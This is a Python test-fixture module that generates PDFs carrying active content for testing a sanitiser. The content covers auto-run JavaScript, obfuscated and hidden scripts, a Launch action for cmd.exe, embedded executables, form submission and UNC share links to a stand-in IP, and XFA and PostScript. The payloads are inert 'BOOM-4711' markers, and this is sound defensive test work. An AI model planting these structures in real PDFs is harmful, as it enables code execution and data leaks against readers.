"""PDFs that act, each in one way: a page that looks like any other, and a BOOM that must not come through."""

from __future__ import annotations

import io
from collections.abc import Callable

import pikepdf

from tests.files.papers import packed, paper, stream, updated

BOOM = b"BOOM-4711"  # in every payload
PROGRAM = b"MZ\x90\0" + BOOM + b" This program cannot be run in DOS mode."
JS = b"<< /S /JavaScript /JS (app.alert\\('BOOM-4711'\\)) >>"
LAUNCH = b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c BOOM-4711) >> >>"
GOTO = b"<< /S /GoTo /D [3 0 R /Fit] /Next %s >>"
LINK = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [72 690 500 740] %s >>]"
WIDGET = (
    b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (total) /V (12.50) /DA (/F1 12 Tf 0 g) "
    b"/Rect [72 600 300 630] %s >>"
)
FORM = b"/AcroForm << /Fields [6 0 R] /DA (/F1 12 Tf 0 g) /DR << /Font << /F1 5 0 R >> >> %s >>"
FILE = b"<< /Type /Filespec /F (BOOM-4711.exe) /UF (BOOM-4711.exe) /EF << /F 7 0 R >> >>"
EMBEDDED = b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (len(PROGRAM), PROGRAM)
SOUND = b"<< /Type /Sound /R 8000 /Length 9 >>\nstream\nBOOM-4711\nendstream"
XFA = b"<xdp:xdp><script contentType='application/x-javascript'>xfa.host.beep('BOOM-4711')</script></xdp:xdp>"
XMP = b"<x:xmpmeta><dc:creator>BOOM-4711</dc:creator></x:xmpmeta>"


def annotation(kind: bytes, more: bytes = b"") -> bytes:
    return b"/Annots [<< /Type /Annot /Subtype /%s /Rect [72 690 500 740] %s >>]" % (kind, more)


def linked(action: bytes) -> bytes:
    return paper(page=LINK % (b"/A " + action))


def field(more: bytes, form: bytes = b"") -> bytes:
    return paper(page=b"/Annots [6 0 R]", catalogue=FORM % form, more=[WIDGET % more])


def with_file(catalogue: bytes = b"", page: bytes = b"") -> bytes:
    return paper(catalogue=catalogue, page=page, more=[FILE, EMBEDDED])


def in_object_streams(content: bytes) -> bytes:
    """The same, with its objects packed by a common writer."""
    output = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as pdf:
        pdf.save(output, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return output.getvalue()


def locked_for_editing(content: bytes) -> bytes:
    """Anybody may open it; its owner's password is for those who would change it."""
    output = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as pdf:
        pdf.save(output, encryption=pikepdf.Encryption(owner="owner", user="", R=6))
    return output.getvalue()


def replaced() -> bytes:
    """The script is in the first version; the second, which a reader shows, has none."""
    return updated(paper(catalogue=b"/OpenAction 6 0 R", more=[JS]), {6: b"[3 0 R /Fit]"})


def added() -> bytes:
    """Harmless in its first version; the second adds the script."""
    catalogue = b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + JS + b" >>"
    return updated(paper(), {1: catalogue})


def many_after(count: int = 60) -> bytes:
    """A script at the end of a long chain of harmless actions."""
    more = [GOTO % (b"%d 0 R" % (number + 7)) for number in range(count)] + [JS]
    return paper(catalogue=b"/OpenAction 6 0 R", more=more)


def broken_table() -> bytes:
    """A reader has to look for the objects itself."""
    return paper(catalogue=b"/OpenAction " + JS).replace(b"startxref\n", b"startxref\n9")


def _names(tree: bytes) -> bytes:
    return b"/Names << " + tree + b" >>"


ACTIVE: dict[str, Callable[[], bytes]] = {
    "script when opened": lambda: paper(catalogue=b"/OpenAction " + JS),
    "script in a stream": lambda: paper(
        catalogue=b"/OpenAction << /S /JavaScript /JS 6 0 R >>", more=[stream(b"app.alert('BOOM-4711')")]
    ),
    "script under other letters": lambda: paper(
        catalogue=b"/Open#41ction << /#53 /J#61va#53cript /J#53 (BOOM-4711) >>"
    ),
    "script in an object stream": lambda: in_object_streams(paper(catalogue=b"/OpenAction " + JS)),
    "script in an update": added,
    "script in a former version": replaced,
    "script behind a broken table": broken_table,
    "script behind an owner's lock": lambda: locked_for_editing(paper(catalogue=b"/OpenAction " + JS)),
    "script by its name": lambda: paper(catalogue=_names(b"/JavaScript << /Names [(a) 6 0 R] >>"), more=[JS]),
    "script deep in a tree of names": lambda: paper(
        catalogue=_names(b"/JavaScript << /Kids [6 0 R] >>"),
        more=[b"<< /Limits [(a) (a)] /Kids [7 0 R] >>", b"<< /Limits [(a) (a)] /Names [(a) 8 0 R] >>", JS],
    ),
    "script hidden among destinations": lambda: paper(
        catalogue=_names(b"/Dests << /Names [(a) 6 0 R (b) [3 0 R /Fit]] >>"), more=[JS]
    ),
    "script when closed": lambda: paper(catalogue=b"/AA << /WC %s /WS %s >>" % (JS, JS)),
    "script of a page": lambda: paper(page=b"/AA << /O " + JS + b" /C 6 0 R >>", more=[JS]),
    "script of a link": lambda: linked(JS),
    "script under the pointer": lambda: paper(page=LINK % (b"/AA << /E " + JS + b" >>")),
    "script of a link's former action": lambda: paper(page=LINK % (b"/PA " + JS)),
    "script that formats a field": lambda: field(
        b"/AA << /K %s /F %s /V %s /C %s >>" % (JS, JS, JS, JS), b"/CO [6 0 R]"
    ),
    "script of a button": lambda: field(b"/A " + JS),
    "script of a heading": lambda: paper(
        catalogue=b"/Outlines 6 0 R",
        more=[
            b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
            b"<< /Title (One) /Parent 6 0 R /A " + JS + b" >>",
        ],
    ),
    "script after a harmless action": lambda: paper(catalogue=b"/OpenAction " + GOTO % JS),
    "script after two": lambda: paper(catalogue=b"/OpenAction " + GOTO % (GOTO % JS)),
    "script after many": many_after,
    "script in a list of next actions": lambda: linked(GOTO % (b"[%s %s]" % (GOTO % b"[]", JS))),
    "script as an attribute": lambda: paper(
        page=LINK % (b"/A << /Type /StructElem /S /JavaScript /JS (BOOM-4711) >>")
    ),
    "script whose kind stands elsewhere": lambda: paper(
        page=LINK % b"/A << /S 6 0 R /JS (BOOM-4711) >>", more=[b"/JavaScript"]
    ),
    "script of no known place": lambda: paper(
        page=b"/Group << /S /Transparency /Old [[6 0 R]] >>", more=[JS]
    ),
    "script of a rendition": lambda: paper(
        page=annotation(b"Screen", b"/A << /S /Rendition /OP 0 /JS (BOOM-4711) >>")
    ),
    "program started": lambda: paper(catalogue=b"/OpenAction " + LAUNCH),
    "program behind a link": lambda: linked(LAUNCH),
    "link to a file": lambda: linked(b"<< /S /URI /URI (file:///c:/BOOM-4711.exe) >>"),
    "link that is a script": lambda: linked(b"<< /S /URI /URI (JavaScript:alert\\('BOOM-4711'\\)) >>"),
    "link to a share": lambda: linked(b"<< /S /URI /URI (\\\\\\\\198.51.100.7\\\\BOOM-4711) >>"),
    "link against a base": lambda: paper(
        catalogue=b"/URI << /Base (file:///BOOM-4711/) >>", page=LINK % b"/A << /S /URI /URI (a.exe) >>"
    ),
    "form sent off": lambda: field(
        b"/A << /S /SubmitForm /F << /FS /URL /F (http://198.51.100.7/BOOM-4711) >> >>"
    ),
    "form filled from a file": lambda: field(b"/A << /S /ImportData /F (BOOM-4711.fdf) >>"),
    "another document": lambda: linked(b"<< /S /GoToR /F (BOOM-4711.pdf) /D [0 /Fit] >>"),
    "a document within": lambda: with_file(
        _names(b"/EmbeddedFiles << /Names [(a) 6 0 R] >>"),
        LINK % b"/A << /S /GoToE /T << /R /C /N (BOOM-4711) >> >>",
    ),
    "a command to the reader": lambda: linked(b"<< /S /Named /N /SaveAs /Note (BOOM-4711) >>"),
    "program within": lambda: with_file(_names(b"/EmbeddedFiles << /Names [(a) 6 0 R] >>")),
    "program pinned to a page": lambda: with_file(page=annotation(b"FileAttachment", b"/FS 6 0 R")),
    "program of no known place": lambda: with_file(page=b"/Group << /S /Transparency /Old [6 0 R 7 0 R] >>"),
    "associated file": lambda: with_file(b"/AF [6 0 R]", b"/AF 6 0 R"),
    "portfolio": lambda: with_file(
        _names(b"/EmbeddedFiles << /Names [(a) 6 0 R] >>")
        + b" /Collection << /View /T >> /PageMode /UseAttachments"
    ),
    "XFA form": lambda: paper(
        catalogue=b"/NeedsRendering true /AcroForm << /Fields [] /XFA [(template) 6 0 R] >>",
        more=[stream(XFA)],
    ),
    "Flash": lambda: with_file(
        page=annotation(b"RichMedia", b"/RichMediaContent << /Assets << /Names [(a) 6 0 R] >> >>")
    ),
    "movie": lambda: paper(page=annotation(b"Movie", b"/Movie << /F (BOOM-4711.mov) >> /A true")),
    "sound": lambda: paper(page=annotation(b"Sound", b"/Sound 6 0 R"), more=[SOUND]),
    "sound of a link": lambda: paper(page=LINK % b"/A << /S /Sound /Sound 6 0 R >>", more=[SOUND]),
    "model with a script": lambda: paper(
        page=annotation(b"3D", b"/3DD 6 0 R"),
        more=[
            b"<< /Type /3D /Subtype /U3D /OnInstantiate 7 0 R /Length 0 >>\nstream\n\nendstream",
            stream(b"console.println('BOOM-4711')"),
        ],
    ),
    "annotation of an unknown kind": lambda: paper(page=annotation(b"Gadget", b"/Payload (BOOM-4711)")),
    "picture from a file": lambda: paper(
        page=b"/Resources << /XObject << /X 6 0 R >> >>",
        more=[b"<< /Subtype /Image /F (\\\\\\\\host\\\\BOOM-4711) /Length 0 >>\nstream\n\nendstream"],
    ),
    "page from another file": lambda: paper(
        page=b"/Resources << /XObject << /X 6 0 R >> >>",
        more=[
            b"<< /Subtype /Form /BBox [0 0 9 9] /Ref << /F (BOOM-4711.pdf) /Page 0 >> /Length 0 >>\n"
            b"stream\n\nendstream"
        ],
    ),
    "program for the printer": lambda: paper(
        page=b"/Resources << /XObject << /X 6 0 R >> >>",
        more=[b"<< /Subtype /PS /Length 14 >>\nstream\nBOOM-4711 exec\nendstream"],
    ),
    "steps of a presentation": lambda: paper(page=b"/PresSteps << /NA " + JS + b" >>"),
    "who wrote it": lambda: paper(
        trailer=b"/Info 6 0 R", more=[b"<< /Author (BOOM-4711) /Title (BOOM-4711) >>"]
    ),
    "who wrote it, in XML": lambda: paper(
        catalogue=b"/Metadata 6 0 R",
        page=b"/Metadata 6 0 R",
        more=[b"<< /Type /Metadata /Subtype /XML /Length %d >>\nstream\n%s\nendstream" % (len(XMP), XMP)],
    ),
    "what its program kept": lambda: paper(
        page=b"/PieceInfo << /Editor << /Private 6 0 R >> >> /Thumb 7 0 R", more=[stream(BOOM), stream(BOOM)]
    ),
    "what its program packed": lambda: paper(
        page=b"/PieceInfo << /Editor << /Private 6 0 R >> >>",
        more=[packed(BOOM)],
    ),
    "what nobody refers to": lambda: paper(more=[JS, EMBEDDED]),
    "what the trailer refers to": lambda: paper(trailer=b"/Extra 6 0 R", more=[stream(BOOM)]),
}
